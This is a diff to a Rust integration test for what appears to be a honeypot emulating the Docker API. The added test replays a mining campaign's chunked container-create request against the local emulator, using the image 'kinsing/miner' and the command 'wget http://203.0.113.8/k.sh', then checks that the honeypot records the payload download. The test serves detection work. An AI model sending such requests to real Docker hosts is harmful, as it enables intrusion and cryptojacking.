@@ -252,7 +252,7 @@ async fn adb_connect_shell_and_push_are_recorded_and_the_pushed_file_kept() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn docker_cli_version_privileged_run_exec_and_pull_are_recorded() {
-    if !require_client("docker") {
+    if !require_client("docker") || !require_client("curl") {
         return;
     }
     let h = Harness::start(&["docker"]).await;
@@ -288,6 +288,13 @@ async fn docker_cli_version_privileged_run_exec_and_pull_are_recorded() {
     assert_eq!(stdout(&out).trim(), "ok", "{}", String::from_utf8_lossy(&out.stderr));
     let out = run_client(docker(&["pull", "alpine:3.19"]), CLIENT_TIMEOUT).await;
     assert!(out.status.success(), "docker pull: {}", String::from_utf8_lossy(&out.stderr));
+    // A campaign script's curl, its JSON sent chunked.
+    let mut c = Command::new("curl");
+    c.args(["-sS", "-X", "POST", "-H", "Content-Type: application/json", "-H", "Transfer-Encoding: chunked"]);
+    c.args(["--data-binary", r#"{"Image":"kinsing/miner","Cmd":["sh","-c","wget http://203.0.113.8/k.sh"]}"#]);
+    c.arg(format!("http://127.0.0.1:{}/v1.41/containers/create", h.port(Protocol::Docker)));
+    let out = run_client(c, CLIENT_TIMEOUT).await;
+    assert!(stdout(&out).starts_with(r#"{"Id":""#), "curl: {}{}", stdout(&out), String::from_utf8_lossy(&out.stderr));
 
     let evs = h.wait_for(Duration::from_secs(10), |evs| downloads(evs).iter().any(|(_, t)| t == "docker-pull")).await;
     let create = exploit(&evs, "docker-container-create").expect("create recorded");
@@ -310,8 +317,18 @@ async fn docker_cli_version_privileged_run_exec_and_pull_are_recorded() {
         "{:?}",
         commands(&evs)
     );
+    let chunked = evs.iter().find_map(|e| match &e.detail {
+        Detail::Exploit { name, extra, .. }
+            if name == "docker-container-create" && field(extra, "image") == "kinsing/miner" =>
+        {
+            Some(field(extra, "cmd").to_string())
+        }
+        _ => None,
+    });
+    assert_eq!(chunked.as_deref(), Some("sh -c wget http://203.0.113.8/k.sh"), "the chunked create is parsed");
     let dl = downloads(&evs);
     for want in [
+        ("http://203.0.113.8/k.sh", "wget"),
         ("http://203.0.113.7/d.sh", "curl"),
         ("http://203.0.113.7/e", "wget"),
         ("docker://docker.io/library/alpine:3.19", "docker-pull"),
